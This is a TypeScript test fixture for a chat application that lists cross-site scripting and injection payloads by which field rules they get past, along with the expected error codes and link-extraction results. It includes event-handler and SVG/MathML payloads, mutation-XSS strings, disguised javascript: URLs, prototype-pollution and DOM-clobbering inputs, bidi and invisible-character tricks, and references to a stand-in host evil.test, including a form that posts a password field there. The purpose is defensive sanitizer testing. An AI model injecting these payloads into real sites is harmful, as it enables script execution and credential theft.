// What attackers write into chats, by where the rules let it through. `pwn` is called by whatever script runs.

/** Fit for display names: 64 characters at most, none of them invisible. */
export const PLAIN = [
  // Elements and their event handlers.
  '<script>pwn(1)</script>',
  '<img src=x onerror=pwn(2)>',
  '<body onload=pwn(3) onhashchange=pwn(3)>',
  '<details open ontoggle=pwn(4)>',
  '<video><source onerror=pwn(5)>',
  '<x contenteditable onblur=pwn(6)>lose focus</x>',
  '<p id=x popover onbeforetoggle=pwn(7)><b popovertarget=x>',
  '<dialog open><fitness-chat></fitness-chat>',
  // Foreign namespaces.
  '<svg onload=pwn(8)>',
  '<svg><animate onbegin=pwn(9) attributeName=x dur=1s>',
  '<svg><script href=data:,pwn(10) />',
  '<svg><a xlink:href=javascript:pwn(11)><text>x</text></a>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=pwn(12)>#x">',
  '<math><mtext><script>pwn(13)</script></mtext></math>',
  '<math><mi//xlink:href="data:x,<script>pwn(14)</script>">',
  // Markup that becomes dangerous when it is parsed a second time.
  '<noscript><p title="</noscript><img src=x onerror=pwn(15)>">',
  '<listing>&lt;img src=x onerror=pwn(16)&gt;</listing>',
  '<style><!--</style><img src=x onerror=pwn(17)>-->',
  '<svg><style><img src=x onerror=pwn(18)></style>',
  '<table><td></table><form><form><svg onload=pwn(19)>',
  '<xmp><p title="</xmp><svg/onload=pwn(20)>">',
  '<template shadowrootmode=open><script>pwn(21)</script>',
  // Addresses that are code, plain and disguised.
  '<a href=javascript:pwn(22)>x</a>',
  '<a href=JaVa&#x53;cript&colon;pwn(23)>x</a>',
  '<a href="&#1;java&Tab;script&NewLine;:pwn(24)">x</a>',
  '<a href="vbscript:MsgBox(25)">x</a>',
  '<iframe src="data:text/html,<script>pwn(26)</script>">',
  '<iframe srcdoc="<script>parent.pwn(27)</script>">',
  '<object data=javascript:pwn(28)><embed src=javascript:pwn(28)>',
  'javascript:pwn(29)',
  // Other servers.
  '<embed src=//evil.test/30.swf>',
  '<base href=//evil.test/>',
  '<meta http-equiv=refresh content=0;url=//evil.test>',
  '<link rel=stylesheet href=//evil.test/33.css>',
  "<style>@import'//evil.test/34';*{display:none}</style>",
  '<p style="background:url(//evil.test/35);position:fixed">',
  '<form action=//evil.test><input name=password><button>',
  // Ways out of attributes, templates, scripts, comments, JSON.
  '"autofocus onfocus=pwn(37) x="',
  "'-pwn(38)-'",
  '"><b onmouseover=pwn(39)>b</b>',
  '`${pwn(40)}` ${pwn(40)} #{pwn(40)} <%= pwn(40) %>',
  "{{constructor.constructor('pwn(41)')()}}",
  '</script><script>pwn(42)</script>',
  '</title></textarea></bdi></li><img src=x onerror=pwn(43)>',
  ']]><![CDATA[<img src=x onerror=pwn(44)>]]>',
  '<!--><img src=x onerror=pwn(45)>-->',
  '","type":"status","status":"closing","x":"',
  // Names of what a page or an object has already.
  '<form id=fitness-chat name=body><input name=shadowRoot>',
  '<a id=testNetwork><a id=testNetwork name=dials href=x>',
  '<img name=getElementById><img name=querySelector>',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '{"__proto__":{"textContent":"pwn(54)"}}',
  // Encodings that something may undo.
  '&lt;img src=x onerror=pwn(55)&gt; &amp;lt; &#60;b&#x3e;',
  '%3Cscript%3Epwn(56)%3C/script%3E',
  '\\u003cscript\\u003epwn(57)\\x3c/script\\x3e',
  '+ADw-script+AD4-pwn(58)+ADw-/script+AD4-',
  '\uff1cscript\uff1epwn(59)\uff1c/script\uff1e',
  '<img src=x onerror=\u2028pwn(60)\u2029//>',
  // What is hard to draw.
  `Z${'\u0335\u0322\u034d\u0360\u0310\u0489'.repeat(10)}x`,
  '\u05e9\u05dc\u05d5\u05dd <img src=x onerror=pwn(62)> \u0645\u0631\u062d\u0628\u0627',
  '\ufdfd\ufdfd\ufdfd \u{12219}\u{12219} \u{1F4A9}\u{1F1E9}\u{1F1EA} \u00a0\u3000.',
];

/** Too long for display names, fit for bodies. */
export const LONG = [
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=pwn(70)&gt;">',
  '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=pwn(71) src>">',
  '<math><annotation-xml encoding="text/html"><svg><desc><noscript><style></noscript><svg onload=pwn(72)>',
  "<script>trustedTypes.createPolicy('default',{createHTML:s=>s,createScript:s=>s});document.body.innerHTML='<svg onload=pwn(73)>'</script>",
  'jaVasCript:/*-/*`/*\\`/*\'/*"/**/(/* */oNcliCk=pwn(74) )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=pwn(74)//>\\x3e',
  '{"type":"new_message","room":"general","seq":9007199254740991,"message":{"body":"<img src=x onerror=pwn(75)>"}}',
  '<div>'.repeat(80),
  `<img src="${'A'.repeat(400)}" onerror=pwn(76)>`,
  'x'.repeat(8000),
  '<'.repeat(4000),
  'a' + '\u0301'.repeat(4000),
  '\u{1F4A9}'.repeat(2000),
];

/** With characters that do not show or that turn a text around: fit for bodies, refused in names. */
export const HIDDEN = [
  'holiday\u202egnp.exe<img src=x onerror=pwn(80)>',
  '\u2066<b>\u2067<i>\u2068\u2069\u2069',
  '\u200f\u061c<svg onload=pwn(82)>',
  '<scr\u200bipt>pwn(83)</scr\u200bipt>',
  '<\ufeffimg src=x onerror=pwn(84)>',
  'java\u00adscript\u200d:pwn(85)',
  '\u{E003C}script\u{E003E}pwn(86)',
  '\u{1F468}\u200d\u{1F469}\u200d\u{1F467} \u2764\ufe0f <b>',
];

/** With white space that breaks lines: fit for bodies, refused in names and descriptions. */
export const BROKEN = ['<a href="java\nscript:pwn(90)">x</a>', '<img\tsrc=x\tonerror=pwn(91)>', '<script>\npwn(92)\n</script>'];

/** Refused everywhere, with the error code of a message. */
export const CONTROL = [
  ['<scr\u0000ipt>pwn(1)</scr\u0000ipt>', 'bad_field'],
  ['\u0001javascript:pwn(2)', 'bad_field'],
  ['\u001b[31mred', 'bad_field'],
  ['<img src=x\ronerror=pwn(4)>', 'bad_field'],
  ['<img\u0085src=x onerror=pwn(5)>', 'bad_field'],
  ['\u007f\u009b2J', 'bad_field'],
  ['<img\ud83d src=x onerror=pwn(7)>', 'bad_json'],
];

/** Texts, and the addresses in them that become links. */
export const LINKS = [
  ['see https://example.org/a?b=1, or ftp://example.org', ['https://example.org/a?b=1']],
  ['javascript:pwn(1)//https://example.org/', ['https://example.org/']],
  ['https://example.org/"onmouseover="pwn(2)', ['https://example.org/']],
  ["https://example.org/'onmouseover='pwn(3)", ['https://example.org/']],
  ['https://example.org/<script>pwn(4)</script>', ['https://example.org/']],
  ['<a href="http://evil.test/5" onclick=pwn(5)>http://evil.test/5</a>', ['http://evil.test/5', 'http://evil.test/5']],
  ['HTTPS://EXAMPLE.ORG/?javascript:pwn', ['HTTPS://EXAMPLE.ORG/?javascript:pwn']],
  ['https://example.org@evil.test/', ['https://example.org@evil.test/']],
  ['https:// https://% https://exa\u00admple.org:99999/ http://a:b:c/', []],
  ['data:text/html,<script>pwn(9)</script> vbscript:x file:///etc/passwd //evil.test', []],
  ['https://example.org/holiday\u202egnp.exe https://exam\u200bple.org', []],
  ['\u2066https://example.org/a\u2069, https://example.org/b\u200b', ['https://example.org/a', 'https://example.org/b']],
  ['https://ex\u00e4mple.org/\u00fc#%3Cb%3E', ['https://ex\u00e4mple.org/\u00fc#%3Cb%3E']],
  ['jAvAsCrIpT://https://example.org/%0apwn', ['https://example.org/%0apwn']],
];
